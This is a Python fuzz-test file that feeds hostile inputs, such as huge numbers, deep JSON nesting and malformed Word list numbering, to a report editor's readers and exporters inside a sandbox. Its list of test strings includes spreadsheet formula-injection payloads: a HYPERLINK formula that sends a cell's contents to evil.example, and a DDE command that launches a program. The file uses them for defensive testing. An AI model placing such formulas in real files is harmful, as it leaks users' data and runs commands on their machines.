"""Structure-aware fuzzing of every reader and writer (issue 15): inputs that stay a .gik, a workbook, a Word
document or a text/web page, with the values an attacker would choose — swapped JSON types, huge and
exponent numbers, NaN and Infinity, deep nesting, unknown keys, numeric strings in cells and in the data
sheet, hostile list numbering, split runs, odd separators.

Each input runs in a sandboxed worker (fuzz_sandbox) with a time and a memory limit: read (or import),
check with all rules, and for a readable .gik also write every export. A crash, a hang or a death fails
the test with the input. CI runs a bounded number of examples; `pytest --slow` runs many more.
"""
from __future__ import annotations

import io
import json
import os
import re
import zipfile
from functools import lru_cache
from pathlib import Path

import pytest
from fuzz_sandbox import Sandbox
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "examples" / "honghe-2020.gik"
HOSTILE = ROOT / "tests" / "data" / "hostile"


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory):
    box = Sandbox(tmp_path_factory.mktemp("fuzz"))
    yield box
    box.stop()
    for suffix, counts in sorted(box.tally.items()):
        print(f"\nfuzz {suffix}: {sum(counts.values())} inputs, none crashed or hung "
              f"({counts['ok']} read, {counts['refused']} refused with a message)")


SLOW = os.environ.get("GIK_FUZZ_SLOW") == "1"        # pytest --slow (tests/conftest.py)
# A --slow run of one test takes up to half an hour on a loaded 2-core machine: beyond the suite's 600 s.
pytestmark = [pytest.mark.skipif(not hasattr(os, "fork"), reason="the sandbox needs POSIX limits"),
              pytest.mark.timeout(3600 if SLOW else 600)]


def fuzz_settings(ci: int, slow: int):
    """Examples per test: `ci` in CI (the same ones every run), `slow` new ones with --slow."""
    return settings(max_examples=slow if SLOW else ci, deadline=None, derandomize=not SLOW,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large])


# ---- hostile values --------------------------------------------------------------------------------

class Raw(str):
    """A JSON token written as is (a number json.dumps cannot make, or broken nesting)."""


HUGE_NUMBERS = ["1e5000", "1e100000000", "1" * 4301, "9" * 30, "-1e9999999999999999999", "1E400", "1e-999999",
                "0.1e100000000", "-0", "1.0e+2", "12.50", "123456789012345678901234567890.5", "4e-7"]
RAW_TOKENS = st.one_of(st.sampled_from(HUGE_NUMBERS), st.sampled_from(["NaN", "Infinity", "-Infinity"]),
                       st.integers(1, 100_000).map(lambda n: "[" * n + "]" * n),
                       st.integers(1, 3000).map(lambda n: '{"a":' * n + "1" + "}" * n)).map(Raw)
TEXTS = st.one_of(
    st.sampled_from(["=HYPERLINK(\"http://evil.example/?x=\"&A2,\"点此\")", "=cmd|' /C calc'!A0", "+1+1", "-2",
                     "@SUM(1)", "\t=1", "\r=1", "洪合镇\x01人民政府", "\x00", "字" * 1001, "2019", "2021", "元", "万元",
                     "1e5000", "1" * 4301 + "条", "t3.new.natural", "app", "gik_editor"]),
    st.text(max_size=40))
PLAIN = st.one_of(st.none(), st.booleans(), st.integers(-2**70, 2**70), st.floats(allow_nan=False),
                  st.just([]), st.just({}), st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5),
                                                                                                   st.integers(), max_size=2))
HOSTILE_VALUE = st.one_of(RAW_TOKENS, TEXTS, PLAIN)


def _paths(node, prefix=()):
    """Every place in a JSON tree, as a key path."""
    yield prefix
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _paths(v, (*prefix, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _paths(v, (*prefix, i))


def _at(tree, path):
    for key in path:
        tree = tree[key]
    return tree


@lru_cache(maxsize=1)
def sample_tree_text() -> str:
    return SAMPLE.read_text("utf-8")


def mutated_json(base: dict, draw, mutations: int, texts_only: bool = False) -> str:
    """`base` with some places replaced by hostile values (or given unknown keys), as JSON text.
    `texts_only`: only text is replaced, by hostile text (the file stays readable: the writers get it)."""
    tree = json.loads(json.dumps(base))
    paths = list(_paths(tree))
    if texts_only:
        strings = [p for p in paths if p and isinstance(_at(tree, p), str)
                   and p[-1] not in ("app", "format_id", "money_unit")]     # (free text only: the file stays valid)
        heads = [p for p in strings if p[0] in ("title", "meta")]      # what lands in file properties, cells
        for _ in range(mutations):
            path = draw(st.sampled_from(heads if draw(st.booleans()) else strings))
            _at(tree, path[:-1])[path[-1]] = draw(TEXTS)[:1000]
        return json.dumps(tree, ensure_ascii=draw(st.booleans()))
    raws: list[str] = []
    # Half the time a place that holds a number or names a format: where the type and range checks are.
    numeric = [p for p in paths if p and (isinstance(_at(tree, p), (int, float)) or p[-1] in ("format_id", "year"))]
    for _ in range(mutations):
        path = draw(st.sampled_from(numeric if numeric and draw(st.booleans()) else paths))
        value = draw(HOSTILE_VALUE)
        if isinstance(value, Raw):
            raws.append(value)
            value = f"@@RAW{len(raws) - 1}@@"
        if not path:
            tree = value
            break
        parent = tree
        try:
            for key in path[:-1]:
                parent = parent[key]
            if isinstance(parent, dict) and draw(st.booleans()):
                parent[draw(st.text(max_size=12))] = value            # an unknown (or duplicated) key
            else:
                parent[path[-1]] = value
        except (KeyError, IndexError, TypeError):
            continue                                                  # the place went away in an earlier mutation
        paths = list(_paths(tree))
    text = json.dumps(tree, ensure_ascii=draw(st.booleans()))
    for i, raw in enumerate(raws):
        text = text.replace(f'"@@RAW{i}@@"', raw)
    return text


# ---- .gik ------------------------------------------------------------------------------------------

@st.composite
def gik_files(draw) -> bytes:
    base = json.loads(sample_tree_text())
    if draw(st.booleans()):            # last year's numbers too, as a report made with 上年结转 has them
        base["prior"] = {"year": 2019, "format_id": "2019", "values": dict(list(base["values"].items())[:5])}
    return mutated_json(base, draw, draw(st.integers(1, 4)), texts_only=draw(st.booleans())).encode(
        "utf-8", "surrogatepass")


@fuzz_settings(ci=60, slow=2000)
@given(data=gik_files())
def test_fuzz_gik_files(sandbox, data):
    sandbox.run(data, ".gik", write=True)


# ---- .xlsx -----------------------------------------------------------------------------------------

@lru_cache(maxsize=1)
def exported_workbook() -> bytes:
    from gik_editor import storage
    from gik_editor.exporters import xlsx
    return xlsx.workbook_bytes(storage.load(SAMPLE))


CELL_TEXTS = st.one_of(st.sampled_from(["1E100000000", "1e5000", "1" * 4301, " 1,234 ", "１２３", "NaN", "inf",
                                        "-0", "1e-5000", "12.5", "=1+1", "0x10", "1_000", "—", "/", "١٢٣",
                                        "1e99999999999999999999", "9" * 25, "1.5E+3", "", " "]),
                       st.integers(-10**12, 10**12).map(str), st.text(max_size=12))


@st.composite
def workbooks(draw) -> bytes:
    import openpyxl

    from gik_editor.exporters import xlsx_data
    from gik_editor.exporters.xlsx_cells import clean
    book = openpyxl.load_workbook(io.BytesIO(exported_workbook()))
    from openpyxl.cell.cell import MergedCell
    cells = [c for ws in book.worksheets if ws.title != xlsx_data.SHEET for row in ws.iter_rows() for c in row
             if not isinstance(c, MergedCell)]
    numbers = [c for c in cells if isinstance(c.value, (int, float)) or c.data_type == "f"]
    for _ in range(draw(st.integers(1, 6))):      # mostly the tables' numbers, sometimes any cell
        cell = draw(st.sampled_from(numbers if draw(st.integers(0, 3)) else cells))
        cell.value = clean(draw(CELL_TEXTS))      # (what a workbook can hold at all)
    if draw(st.booleans()):                     # the data sheet, edited, with a checksum anyone can recompute
        data = book[xlsx_data.SHEET]
        chunks = [data.cell(xlsx_data.FIRST_CHUNK_ROW + i, 1).value for i in range(data["C1"].value)]
        text = clean(mutated_json(json.loads("".join(chunks)), draw, draw(st.integers(1, 3))))
        parts = [text[i:i + xlsx_data.CHUNK] for i in range(0, len(text), xlsx_data.CHUNK)] or [""]
        for i, part in enumerate(parts):
            data.cell(xlsx_data.FIRST_CHUNK_ROW + i, 1).value = part
        data["C1"].value, data["D1"].value = len(parts), xlsx_data.checksum(text)
    out = io.BytesIO()
    book.save(out)
    body = out.getvalue()
    if draw(st.integers(0, 4)) == 0:           # a long defined name in workbook.xml (R11)
        body = _rewrite_member(body, "xl/workbook.xml", lambda x: x.replace(
            b"</definedNames>", b'<definedName name="_xlnm.Print_Area" localSheetId="0">'
            + "字".encode() * draw(st.integers(100, 30000)) + b"</definedName></definedNames>"))
    return body


def _rewrite_member(archive: bytes, name: str, change) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info.filename)
            z.writestr(info.filename, change(body) if info.filename == name else body)
    return out.getvalue()


@fuzz_settings(ci=25, slow=600)
@given(data=workbooks())
def test_fuzz_workbooks(sandbox, data):
    sandbox.run(data, ".xlsx")


# ---- .docx -----------------------------------------------------------------------------------------

@lru_cache(maxsize=1)
def word_seeds() -> tuple[bytes, bytes]:
    """Our own Word export (tables, runs) and a document with automatic list numbering (its start made sane)."""
    from gik_editor import storage
    from gik_editor.exporters import docx
    exported = docx.document_bytes(storage.load(SAMPLE)) if hasattr(docx, "document_bytes") else None
    if exported is None:
        import tempfile
        with tempfile.TemporaryDirectory() as d:
            docx.export(storage.load(SAMPLE), Path(d) / "s.docx")
            exported = (Path(d) / "s.docx").read_bytes()
    numbered = _rewrite_member((HOSTILE / "R9_docx_numbering_4300digits.docx").read_bytes(), "word/numbering.xml",
                               lambda x: re.sub(rb'w:val="\d{20,}"', b'w:val="1"', x))
    return exported, numbered


NUMBER_ATTRS = st.one_of(st.sampled_from(["9" * 4300, "9" * 5000, "4" * 4300, "1" * 4301, "99999999999"]),
                         st.sampled_from(["1", "0", "-1", "1e5000", "", "x", "١", "2"]))


W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
NUM_FORMATS = st.one_of(st.sampled_from(["decimal", "chineseCounting"]), st.sampled_from(["decimal", "chineseCounting", "chineseCountingThousand", "lowerLetter", "upperLetter",
                               "bullet", "decimalZero", "japaneseCounting", "none", ""]))   # mostly what reports use
LEVEL_TEXTS = st.one_of(st.sampled_from(["%1.", "（%1）"]),
                        st.sampled_from(["%1、", "%1.%2", "%2", "%9", "%10", "", "%1%1%1"]))


@st.composite
def numbering_xml(draw) -> bytes:
    """A list definition as Word writes one, with hostile starts, levels, formats and overrides."""
    attr = lambda: draw(NUMBER_ATTRS).encode()         # noqa: E731
    levels = b"".join(
        b'<w:lvl w:ilvl="' + (str(i).encode() if draw(st.integers(0, 4)) else attr()) + b'"><w:start w:val="'
        + draw(st.one_of(st.just("9" * 4300), NUMBER_ATTRS)).encode() + b'"/><w:numFmt w:val="' + draw(NUM_FORMATS).encode() + b'"/><w:lvlText w:val="'
        + draw(LEVEL_TEXTS).encode() + b'"/></w:lvl>' for i in range(draw(st.integers(1, 3))))
    override = b""
    if draw(st.booleans()):
        override = b'<w:lvlOverride w:ilvl="0"><w:startOverride w:val="' + attr() + b'"/></w:lvlOverride>'
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:numbering ' + W_NS + b'>'
            b'<w:abstractNum w:abstractNumId="0">' + levels + b'</w:abstractNum><w:num w:numId="1">'
            b'<w:abstractNumId w:val="0"/>' + override + b'</w:num></w:numbering>')


@st.composite
def word_documents(draw) -> bytes:
    from gik_editor.exporters.xlsx_cells import clean  # (what XML can hold at all)
    exported, numbered = word_seeds()
    if draw(st.booleans()):
        body = exported
    else:
        body = _rewrite_member(numbered, "word/numbering.xml", lambda x: draw(numbering_xml()))

    def document(x: bytes) -> bytes:
        texts = list(re.finditer(rb"<w:t(?: [^>]*)?>([^<]*)</w:t>", x))
        for _ in range(draw(st.integers(1, 8))):
            if not texts:
                break
            m = draw(st.sampled_from(texts))
            choice = draw(st.integers(0, 2))
            if choice == 0:          # a cell or a run holding a hostile number or separator
                new = draw(st.one_of(CELL_TEXTS, st.sampled_from(["\t", "　", "|", "，", "%", "1,2,3"])))
                new = clean(new).replace("&", "&amp;").replace("<", "&lt;").encode("utf-8", "replace")
            elif choice == 1:        # the run split in two in the middle of its text
                t = m.group(1)
                cut = draw(st.integers(0, len(t)))
                new = t[:cut] + b"</w:t></w:r><w:r><w:t>" + t[cut:]
            else:                    # a paragraph numbered by a list
                new = m.group(1)
                x = x.replace(b"<w:p>", b'<w:p><w:pPr><w:numPr><w:ilvl w:val="' + draw(NUMBER_ATTRS).encode()
                              + b'"/><w:numId w:val="1"/></w:numPr></w:pPr>', 1)
            x = x.replace(m.group(0), m.group(0)[: m.start(1) - m.start(0)] + new + b"</w:t>", 1)
        x = re.sub(rb'(<w:gridSpan w:val=")\d+"', lambda m: m.group(1) + draw(NUMBER_ATTRS).encode() + b'"'
                   if draw(st.integers(0, 5)) == 0 else m.group(0), x)
        return x
    return _rewrite_member(body, "word/document.xml", document)


@fuzz_settings(ci=25, slow=600)
@given(data=word_documents())
def test_fuzz_word_documents(sandbox, data):
    sandbox.run(data, ".docx")


# ---- text and web pages ----------------------------------------------------------------------------

@lru_cache(maxsize=1)
def labels() -> list[str]:
    from gik_editor.formats import FORMATS, SECTION_TITLES
    return sorted({g.text for f in FORMATS.values() for t in f.tables for g in t.grid if g.text}
                  | set(SECTION_TITLES.values()))


ODD_NUMBERS = st.sampled_from(["1e5000", "1E100000000", "1" * 4301, "1" * 4301 + "条", "共1" + "0" * 5000 + "件",
                               "１２３", "1,234,567", "1.2.3", "12%", "1" * 30 + "%", "١٢٣", "²", "-0", "NaN", "∞",
                               "收到申请" + "9" * 4400 + "余条，其中", "本报告由" + "7" * 5000 + "个部分组成"])
SEPARATORS = st.sampled_from(["\n", "\t", "\n\t", "　", "|", "，", " ", "\r\n", "</td><td>", "</td></tr><tr><td>",
                              "<br>", "\x0b", "\u2028"])


@lru_cache(maxsize=1)
def sample_text() -> str:
    return (ROOT / "tests" / "data" / "honghe-2020.txt").read_text("utf-8")


def edited_report_text(draw) -> str:
    """The published sample report with some of its numbers and separators replaced."""
    text = sample_text()
    numbers = list(re.finditer(r"\d+", text))
    for m in sorted(draw(st.lists(st.sampled_from(numbers), min_size=1, max_size=6, unique_by=lambda m: m.start())),
                    key=lambda m: -m.start()):
        text = text[:m.start()] + draw(st.one_of(ODD_NUMBERS, st.integers(-10**12, 10**12).map(str))) + text[m.end():]
    if draw(st.booleans()):
        text = text.replace("\t", draw(SEPARATORS))
    return text


@st.composite
def pages(draw) -> tuple[bytes, str]:
    if draw(st.booleans()):
        suffix = draw(st.sampled_from([".txt", ".html"]))
        text = edited_report_text(draw)
        if suffix == ".html":
            rows = "".join("<tr><td>" + line.replace("\t", "</td><td>") + "</td></tr>" for line in text.split("\n"))
            text = f"<html><body><table>{rows}</table></body></html>"
        return text.encode("utf-8"), suffix
    pieces = draw(st.lists(st.one_of(st.sampled_from(labels()), ODD_NUMBERS, st.integers(-10**12, 10**12).map(str),
                                     st.text(max_size=20)), max_size=150))
    sep = draw(SEPARATORS)
    suffix = draw(st.sampled_from([".txt", ".html"]))
    text = sep.join(pieces)
    if suffix == ".html":
        text = "<html><body><table><tr><td>" + text + "</td></tr></table></body></html>"
    return text.encode(draw(st.sampled_from(["utf-8", "gb18030"])), "replace"), suffix


@fuzz_settings(ci=60, slow=2000)
@given(page=pages())
def test_fuzz_text_and_web_pages(sandbox, page):
    data, suffix = page
    sandbox.run(data, suffix)


def test_the_sandbox_answers_and_notices_a_hang(tmp_path, monkeypatch):
    """The harness the fuzzers rely on: a read, a refusal, and an input that takes longer than the limit."""
    import fuzz_sandbox
    box = Sandbox(tmp_path)
    try:
        assert box.run(SAMPLE.read_bytes(), ".gik") == "ok"
        assert box.run(b"{", ".gik") == "refused"
        monkeypatch.setattr(fuzz_sandbox, "SECONDS", 0.0001)
        with pytest.raises(fuzz_sandbox.Broken, match="no answer within"):
            box.run(SAMPLE.read_bytes(), ".gik", write=True)
        assert box.proc is None and (tmp_path / "broken.gik").read_bytes() == SAMPLE.read_bytes()
    finally:
        box.stop()
